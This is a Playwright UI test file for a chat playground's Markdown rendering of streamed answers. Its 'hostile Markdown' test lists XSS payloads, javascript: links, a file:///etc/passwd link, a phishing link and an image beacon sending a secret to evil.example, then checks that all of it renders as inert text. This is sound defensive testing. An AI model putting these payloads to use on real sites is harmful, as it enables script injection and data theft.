import type { Page } from '@playwright/test'
import { readyRun } from '../fixtures/fake-bridge-world.ts'
import type { FakeBridge } from '../fixtures/fake-bridge.ts'
import { expect, test } from './ui-test.ts'

const runs = [readyRun]

/** A question whose answer arrives in these pieces; what is left open goes on. */
async function answered(page: Page, bridge: FakeBridge, ...pieces: string[]): Promise<void> {
  const before = bridge.calls('chat.ask').length
  await page.getByRole('textbox', { name: 'Question' }).fill('Well?')
  await page.keyboard.press('Enter')
  await expect.poll(() => bridge.calls('chat.ask').length).toBe(before + 1)
  const { ask } = bridge.calls('chat.ask').at(-1)!
  for (const [index, delta] of pieces.entries()) {
    const done = index === pieces.length - 1
    await bridge.push('chat', { ask, delta, thought: '', done, error: null, stats: null })
  }
}

test('an answer is read as Markdown while it grows, and its code can be copied', async ({
  page,
  bridge,
  openMain,
}) => {
  bridge.reply('chat.copy', undefined).reply('link.open', undefined)
  await openMain('playground', { runs })
  const code = 'print("a")\n\nprint("**b**")'
  const text = `## Title\n\nSome **bold** and \`code\`.\n\n- one\n- [x] two\n\n\`\`\`python\n${code}\n\`\`\`\n\n`
  await answered(
    page,
    bridge,
    ...text.match(/[^]{1,7}/g)!,
    'See [it](https://huggingface.co/acme/m).',
  )
  const answer = page.locator('.answer-text')
  await expect(answer.getByRole('heading', { name: 'Title', level: 3 })).toBeVisible()
  await expect(answer.locator('strong')).toHaveText('bold')
  await expect(answer.getByRole('listitem')).toHaveCount(2)
  await expect(answer.getByRole('img', { name: 'done' })).toBeVisible()
  await expect(answer.locator('pre')).toHaveText(code)
  await expect(answer.locator('.code-head')).toContainText('python')
  await answer.getByRole('button', { name: 'Copy code' }).click()
  await expect(answer.getByRole('button', { name: 'Copied' })).toBeVisible()
  expect(bridge.calls('chat.copy')).toEqual([{ text: code }])
  await answer.getByRole('button', { name: 'it', exact: true }).click()
  expect(bridge.calls('link.open')).toEqual([{ to: 'model', repo: 'acme/m' }])
  // What was asked stays as it was typed.
  await page.getByRole('textbox', { name: 'Question' }).fill('Is **this** bold?')
  await page.keyboard.press('Enter')
  await expect(page.locator('.question').last()).toContainText('Is **this** bold?')
})

test('of an answer that grows only the last block is made anew', async ({
  page,
  bridge,
  openMain,
}) => {
  await openMain('playground', { runs })
  await answered(page, bridge, 'The *first* answer.')
  await answered(page, bridge, 'A *first* part.\n\n', 'A *second*', '')
  const parts = page.locator('.answer-text em')
  await expect(parts).toHaveCount(3)
  // React would put its own text back wherever it renders again.
  await parts.evaluateAll((nodes) => {
    for (const node of nodes) node.firstChild!.nodeValue = 'touched'
  })
  await answered(page, bridge, 'x', '')
  await expect(page.locator('.answer-text').last()).toHaveText('x')
  await expect(parts).toHaveText(['touched', 'touched', 'touched'])
})

test('hostile Markdown stays words', async ({ page, bridge, openMain }) => {
  await openMain('playground', { runs })
  const rows = Array.from({ length: 1500 }, (_, row) => `| ${row} | ${'wide '.repeat(40)} |`)
  const text = [
    '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>',
    '<iframe src="https://evil.example"></iframe><a href="javascript:window.hacked=3">raw</a>',
    '<div onclick="window.hacked=4" style="position:fixed;inset:0">over all</div>',
    '![beacon](https://evil.example/pixel.png?secret=1)',
    '![data](data:image/svg+xml,<svg/onload=window.hacked=5>)',
    '[script](javascript:window.hacked=6) [code](vbscript:x) [data](data:text/html,x) [file](file:///etc/passwd)',
    '[bank](https://evil.example/log-in) <https://auto.example/x> www.bare.example',
    '[own](https://huggingface.co@evil.example/a/b)',
    'Text[^1]\n\n[^1]: A *note* with [a link](https://note.example).',
    `| a | b |\n|--|:-:|\n${rows.join('\n')}`,
    `${'> '.repeat(300)}deep`,
    `${'['.repeat(2000)}x`,
    '```html\n<script>window.hacked=7</script>',
  ].join('\n\n')
  await answered(page, bridge, text)
  const answer = page.locator('.answer-text')
  await expect(
    answer.getByText('[image: beacon] https://evil.example/pixel.png?secret=1'),
  ).toBeVisible()
  await expect(answer).toContainText('<img src=x onerror="window.hacked=1">')
  await expect(answer).toContainText('bank (https://evil.example/log-in)')
  await expect(answer).toContainText('own (https://huggingface.co@evil.example/a/b)')
  await expect(answer.getByRole('row')).toHaveCount(1501)
  await expect(answer.locator('pre')).toHaveText('<script>window.hacked=7</script>')
  const found = await page.evaluate(() => ({
    hacked: 'hacked' in window,
    markup: document.querySelectorAll(
      '#root :is(img, script, a, iframe, object, svg[onload], [onclick])',
    ).length,
    width: document.documentElement.scrollWidth - innerWidth,
    over: document.querySelectorAll('.answer-text [style*="position"]').length,
  }))
  expect(found).toEqual({ hacked: false, markup: 0, width: 0, over: 0 })
  await expect(answer.getByRole('button')).toHaveText(['Copy'])
  await expect(page.getByRole('textbox', { name: 'Question' })).toBeEditable()
})
